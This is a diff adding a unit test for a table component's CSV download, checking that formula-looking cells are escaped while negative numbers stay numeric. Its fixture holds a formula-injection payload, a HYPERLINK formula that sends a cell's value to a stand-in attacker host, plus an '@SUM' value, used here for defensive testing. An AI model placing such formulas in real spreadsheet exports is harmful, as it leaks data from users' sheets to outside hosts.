@@ -254,6 +254,26 @@ describe('TableCard: pagination and download', () => {
     );
   });
 
+  it('downloads a formula-looking cell as text, and a negative number as a number', async () => {
+    const user = userEvent.setup();
+    const onDownload = vi.fn();
+    const formula = '=HYPERLINK("http://evil.example/?x="&A2,"Click")';
+    const hostile: TableRow[] = [
+      [
+        { display: formula, value: formula },
+        { display: '-3', value: -3 },
+        { display: '-$12.50', value: -12.5 },
+        { display: '@x', value: '@SUM(1+1)' },
+      ],
+    ];
+    render(<Harness rows={hostile} totalRows={1} onDownload={onDownload} />);
+    await user.click(screen.getByRole('button', { name: 'Download' }));
+    expect(onDownload.mock.calls[0]?.[1]).toBe(
+      'Date,Orders,Net sales,Tax\n' +
+        `"'=HYPERLINK(""http://evil.example/?x=""&A2,""Click"")",-3,-12.5,'@SUM(1+1)\n`,
+    );
+  });
+
   it('lets the caller handle the download (e.g. a server export)', async () => {
     const user = userEvent.setup();
     const onDownload = vi.fn();
